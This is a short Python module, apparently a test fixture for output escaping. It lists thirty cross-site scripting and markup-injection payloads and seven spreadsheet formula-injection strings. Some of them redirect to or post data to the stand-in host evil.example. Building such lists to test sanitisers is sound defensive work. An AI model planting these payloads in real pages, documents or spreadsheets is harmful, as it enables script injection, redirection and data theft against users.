"""Words that would be a script anywhere that shows them as anything but words."""

from __future__ import annotations

PAYLOADS = (
    "<script>alert(1)</script>",
    "</title><script>alert(2)</script>",
    "</textarea><script>alert(3)</script>",
    "<img src=x onerror=alert(4)>",
    "<svg onload=alert(5)>",
    "<svg><script>alert(6)</script></svg>",
    "<body onload=alert(7)>",
    "<iframe src=javascript:alert(8)>",
    "<a href=javascript:alert(9)>press</a>",
    "javascript:alert(10)",
    "data:text/html,<script>alert(11)</script>",
    '" onmouseover="alert(12)',
    "' onfocus='alert(13)' autofocus='",
    '"><script>alert(14)</script>',
    "<details open ontoggle=alert(15)>",
    "<video><source onerror=alert(16)>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(17)>",
    "<object data=javascript:alert(18)>",
    "<embed src=javascript:alert(19)>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example/>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import 'https://evil.example/y.css';</style>",
    "<form action=https://evil.example><input name=x><button>Send</button></form>",
    "{{ 7*7 }}{% print 7*7 %}",
    "${alert(26)}`${alert(26)}`",
    "<div hx-get=https://evil.example hx-trigger=load hx-on::load=alert(27)>",
    "<!--><img src=x onerror=alert(28)>-->",
    "\u202e<scr\u0000ipt>alert(29)</scr\u0000ipt>",
    "&lt;script&gt;alert(30)&lt;/script&gt;",
)
FORMULAS = ("=1+1", "+1+1", "-1+1", "@SUM(1)", "\t=1+1", "\r=1+1", '=HYPERLINK("https://evil.example")')
